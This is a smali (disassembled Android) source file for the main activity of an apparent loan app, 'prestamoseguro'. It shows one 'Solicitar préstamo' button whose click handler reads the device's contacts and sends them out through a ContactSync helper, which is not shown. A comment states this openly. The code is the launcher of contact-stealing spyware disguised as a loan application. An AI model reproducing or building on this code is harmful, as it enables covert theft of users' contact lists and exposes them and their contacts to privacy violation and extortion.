.class public Lcom/prestamoseguro/ss/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# interfaces
.implements Landroid/view/View$OnClickListener;

# Launcher: one "apply" button. onClick reads the contacts (ContactSync.read)
# and sends them with ContactSync.send.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    # locals v0, v1 ; p0 = this, p1 = savedInstanceState

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    new-instance v0, Landroid/widget/Button;
    invoke-direct {v0, p0}, Landroid/widget/Button;-><init>(Landroid/content/Context;)V
    const-string v1, "Solicitar pr\u00e9stamo"
    invoke-virtual {v0, v1}, Landroid/widget/Button;->setText(Ljava/lang/CharSequence;)V
    invoke-virtual {v0, p0}, Landroid/widget/Button;->setOnClickListener(Landroid/view/View$OnClickListener;)V

    invoke-virtual {p0, v0}, Lcom/prestamoseguro/ss/MainActivity;->setContentView(Landroid/view/View;)V

    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 3
    # local v0 ; p0 = this, p1 = view

    invoke-static {p0}, Lcom/prestamoseguro/ss/ContactSync;->read(Landroid/content/Context;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/prestamoseguro/ss/ContactSync;->send(Ljava/lang/String;)I

    return-void
.end method
